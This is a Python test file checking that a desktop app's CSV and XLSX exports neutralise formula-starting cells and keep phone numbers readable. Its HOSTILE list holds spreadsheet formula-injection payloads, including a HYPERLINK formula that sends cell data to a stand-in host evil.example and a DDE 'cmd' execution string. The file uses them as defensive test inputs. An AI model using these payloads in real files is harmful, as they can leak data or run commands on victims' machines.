"""Spreadsheet cells from data never run as formulas, and phones stay readable."""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pytest

from desktop.formats.atomic import replacing
from desktop.formats.spreadsheets import neutralise, unneutralise, write_csv, write_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cell_starting_a_formula_is_kept_as_quoted_text(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert unneutralise(neutralise(value)) == value


def test_plain_text_and_apostrophe_names_are_untouched() -> None:
    for value in ("Abdulfattoh Shafiev", "O'Brien", "'quoted'", "Ан-Нахда", ""):
        assert neutralise(value) == value
        assert unneutralise(value) == value


def test_csv_has_bom_and_every_hostile_cell_reads_back_as_text(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    rows = [[value, "+992 48 701 0222", 7, True, date(2026, 5, 1)] for value in HOSTILE]
    assert write_csv(path, ["Name", "Phone 1", "n", "flag", "day"], rows) == len(HOSTILE)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        read = list(csv.reader(handle))
    assert read[0] == ["Name", "Phone 1", "n", "flag", "day"]
    for row, value in zip(read[1:], HOSTILE, strict=True):
        assert row[0] == "'" + value
        assert row[1] == "'+992 48 701 0222"  # readable, and not a formula
        assert row[2:] == ["7", "yes", "2026-05-01"]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_xlsx_cells_are_typed_strings_never_formulas(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    when = datetime(2026, 5, 1, 9, 30, tzinfo=UTC)
    rows = [[value, "+992 48 701 0222", 7, False, when, "line 1\nline 2"] for value in HOSTILE]
    write_xlsx(path, ["Name", "Phone 1", "n", "flag", "at", "Notes"], rows)
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet is not None
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:F{len(HOSTILE) + 1}"
    assert sheet.column_dimensions["A"].width > 20
    for number, value in enumerate(HOSTILE, start=2):
        name = sheet.cell(number, 1)
        # exact text, not a formula (openpyxl leaves XML's escape of a CR, "_x000D_", as is)
        assert name.value == value.replace("\r", "_x000D_") and name.data_type == "s"
        assert name.quotePrefix
        phone = sheet.cell(number, 2)
        assert phone.value == "+992 48 701 0222" and phone.data_type == "s"
        assert sheet.cell(number, 3).value == 7
        assert sheet.cell(number, 4).value is False
        assert sheet.cell(number, 5).value == datetime(2026, 5, 1, 9, 30)
        assert sheet.cell(number, 6).value == "line 1\nline 2"


def test_a_failed_export_leaves_the_old_file_untouched(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    path.write_text("previous export")

    def rows() -> list[list[str]]:
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError), replacing(path) as temporary:
        write_csv(temporary, ["Name"], rows())
    assert path.read_text() == "previous export"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]
